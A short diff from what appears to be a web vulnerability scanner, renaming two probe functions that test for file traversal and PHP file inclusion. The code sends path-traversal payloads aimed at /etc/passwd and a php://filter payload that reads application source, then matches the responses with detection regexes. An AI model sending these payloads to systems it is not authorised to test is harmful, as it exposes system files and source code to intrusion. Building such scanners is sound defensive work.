@@ -38,7 +38,7 @@ const climb = '../'.repeat(12)
 /** A page may insert the file in the middle of a line. */
 const passwords = /(?<![\w.@-])root:[^:\s]{0,200}:0:0:[^\n]{0,300}/
 
-export async function readsPasswords(parameter: Parameter, send: SendValue): Promise<Proof | null> {
+export async function proveFileTraversal(parameter: Parameter, send: SendValue): Promise<Proof | null> {
   for (const value of [`${climb}etc/passwd`, '/etc/passwd']) {
     const response = await send(value)
     const [line] = passwords.exec(response?.body ?? '') ?? []
@@ -54,7 +54,7 @@ export async function readsPasswords(parameter: Parameter, send: SendValue): Pro
 const encodedSource = /(?:PD9waH|PD89)[\w+/]{8,100}/
 
 /** Reads the included file itself: with its ending, or without one if the application appends it. */
-export async function readsSource(parameter: Parameter, send: SendValue): Promise<Proof | null> {
+export async function provePhpInclusion(parameter: Parameter, send: SendValue): Promise<Proof | null> {
   const { value } = parameter
   if (!/^[\w./-]{1,100}$/.test(value)) return null
   const response = await send(`php://filter/convert.base64-encode/resource=${value}`)
